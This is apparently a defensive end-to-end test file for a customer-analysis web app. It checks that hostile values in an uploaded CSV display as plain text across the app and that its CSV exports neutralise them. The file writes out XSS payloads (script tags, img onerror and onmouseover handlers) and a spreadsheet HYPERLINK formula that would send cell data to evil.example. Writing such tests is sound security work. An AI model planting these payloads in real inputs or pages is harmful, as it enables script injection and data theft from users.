// Hostile content stays inert: a file whose customer ids, names, a header
// and a dimension's values are HTML, script, SVG markup and spreadsheet
// formulas is analysed, shown and exported, and nothing in it ever runs.
// Every place the text reaches is visited: the table, the card, the split
// and its charts, a chart's tooltip, the import report, the printed report
// and both CSV downloads.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { ROOT, startApp, stopApp, openPage, ready, value, cli, screenshot } from './harness.mjs';

const FILE = path.join(ROOT, 'tests/hostile/markup-everywhere.csv');
const SCRIPT_NAME = "<script>document.title='pwned'</script>";
const IMG_NAME = `<img src=x onerror="document.title='pwned';alert(1)">`;
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
const HEADER = '<img src=x onerror=alert(8)>channel';
const CHANNEL = '<b onmouseover=alert(7)>Online</b>';

let app;
before(async () => {
  app = await startApp();
});
after(() => stopApp(app));

/** A CSV parser for the exports (quoted cells, doubled quotes, CRLF or LF). */
function parseCsv(text) {
  const rows = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i += 1; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { rows.at(-1).push(cell); cell = ''; } else if (c === '\n') { rows.at(-1).push(cell); cell = ''; rows.push([]); } else if (c !== '\r') cell += c;
  }
  if (cell !== '' || rows.at(-1).length) rows.at(-1).push(cell);
  return rows.filter((r) => r.length > 1 || (r.length === 1 && r[0] !== ''));
}

async function download(page, testid) {
  const [file] = await Promise.all([page.waitForEvent('download'), page.getByTestId(testid).click()]);
  return fs.readFileSync(await file.path(), 'utf8').replace(/^\uFEFF/, '');
}

/** Elements or attributes the file's text would have created had it been parsed as markup. */
function injected(page) {
  return page.evaluate(() => ({
    title: document.title,
    scripts: document.scripts.length,
    elements: document.querySelectorAll('img[src="x"], iframe, u, b[onmouseover], svg svg').length,
    handlers: [...document.querySelectorAll('*')].flatMap((el) =>
      [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${el.tagName} ${a.name}`)),
  }));
}

test('markup and formulas in a file stay literal text everywhere and never run', async () => {
  const { page, context, log } = await openPage(app);
  const dialogs = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
  const before = await injected(page);
  const expected = cli(FILE);

  await page.getByTestId('file-input').setInputFiles(FILE);
  await ready(page);
  assert.equal(await value(page, 'kpi-customers'), expected.customers);

  // The table: found by search, shown as typed.
  await page.getByTestId('nav-customers').click();
  const table = page.getByTestId('customer-table');
  for (const name of [SCRIPT_NAME, IMG_NAME, FORMULA_NAME]) {
    await page.getByTestId('table-search').fill(name.slice(0, 12));
    await page.waitForFunction(
      (n) => document.querySelector('[data-testid="customer-table"]').innerText.includes(n), name);
  }
  await page.getByTestId('table-search').fill('');
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="customer-table"] tr[data-id]').length > 40);
  const ids = await table.locator('tr[data-id]').evaluateAll((rows) => rows.map((r) => r.dataset.id));
  assert.ok(ids.includes('<u>C0</u>') && ids.includes('=C1'), `ids are kept as text: ${ids}`);

  // The card of the customer named with a script.
  await page.getByTestId('table-search').fill('document.title');
  await page.locator('[data-testid="customer-table"] tr[data-id]').first().click();
  const card = page.getByTestId('customer-card');
  await card.waitFor();
  assert.ok((await card.innerText()).includes(SCRIPT_NAME), 'the card shows the name as text');
  await screenshot(page, '62-hostile-card');
  await page.keyboard.press('Escape');

  // The split by the dimension whose header and values are markup: the
  // table, the chart legends and a chart tooltip.
  await page.getByTestId('nav-overview').click();
  await page.getByTestId('split-by').selectOption(HEADER);
  await page.getByTestId('split-table').waitFor();
  assert.ok((await page.getByTestId('split-table').innerText()).includes(CHANNEL));
  const chartText = await page.getByTestId('split-panel').locator('svg text').allTextContents();
  // Long labels are cut with an ellipsis; the markup's start is there, as text.
  assert.ok(chartText.some((t) => t.trim().startsWith(CHANNEL.slice(0, 20))), `the chart writes the value as text: ${chartText}`);
  const mark = page.getByTestId('split-panel').locator('[data-readout*="onmouseover"]').first();
  assert.ok(await mark.count(), 'a chart mark reads out the value');
  await mark.scrollIntoViewIfNeeded();
  await mark.hover({ force: true });
  const tip = page.locator('.chart-tooltip').first();
  await tip.waitFor();
  assert.ok((await tip.textContent()).includes(CHANNEL), 'the tooltip shows the value as text');
  await screenshot(page, '63-hostile-split', { fullPage: false });

  // The import report names the header and the rejected rows as text.
  await page.getByTestId('nav-data').click();
  assert.ok((await page.locator('#sec-data').innerText()).includes(HEADER));

  // The printed report.
  await page.emulateMedia({ media: 'print' });
  assert.ok((await page.locator('body').innerText()).includes(SCRIPT_NAME.slice(0, 20)));
  await page.emulateMedia({ media: 'screen' });

  // Both downloads: every cell a spreadsheet would run starts with a quote.
  const exported = parseCsv(await download(page, 'export-csv'));
  const rejected = parseCsv(await download(page, 'download-rejected'));
  for (const [name, rows] of [['customers', exported], ['rejected', rejected]]) {
    for (const row of rows.slice(1)) {
      for (const cell of row) {
        assert.ok(!/^[=+@\t\r]/.test(cell), `${name}: a live formula cell ${JSON.stringify(cell)}`);
      }
    }
  }
  const flat = exported.flat();
  assert.ok(flat.includes(`'${FORMULA_NAME}`), 'the formula name is kept, neutralised');
  assert.ok(flat.includes(SCRIPT_NAME), 'markup is kept as text');
  assert.ok(flat.includes("'=C1"), 'a formula id is neutralised');
  assert.ok(rejected.flat().some((c) => c.startsWith("'=cmd|")), rejected.flat().join(' | '));
  assert.equal(exported.length - 1, expected.customers);

  // Nothing ran and nothing was made.
  const afterAll = await injected(page);
  assert.deepEqual(dialogs, [], 'no dialog');
  assert.equal(afterAll.title, before.title, 'the title is untouched');
  assert.equal(afterAll.scripts, before.scripts, 'no script element added');
  assert.equal(afterAll.elements, 0, 'no element from the file');
  assert.deepEqual(afterAll.handlers, [], 'no event-handler attribute anywhere');
  assert.deepEqual(log.errors, []);
  await context.close();
});

test('a workbook that stops the analysis worker is named, and the next file reads', async () => {
  // calamine panics on a shared-string index with no shared-strings part;
  // the CLI catches it, the page's wasm aborts and its worker dies.
  const { page, context, log } = await openPage(app);
  await page.getByTestId('file-input').setInputFiles(path.join(ROOT, 'tests/hostile/i24-xlsx-shared-string-without-part.xlsx'));
  const banner = page.getByTestId('error-banner');
  await banner.waitFor({ timeout: 60_000 });
  const text = await banner.innerText();
  assert.match(text, /could not be read|damaged/);
  assert.equal(text.split('\n').filter((l) => /could not be read|damaged/.test(l)).length, 1, text);
  await screenshot(page, 'hostile-worker-stopped');
  // A fresh worker took its place: the sample reads with the CLI's figures.
  await page.getByTestId('sample-button').click();
  await ready(page);
  const want = cli(path.join(ROOT, 'public/sample-key-accounts.csv'));
  assert.equal(await value(page, 'kpi-customers'), want.customers);
  assert.deepEqual(log.errors.filter((e) => !/RuntimeError|unreachable|panicked/.test(e)), []);
  await context.close();
});
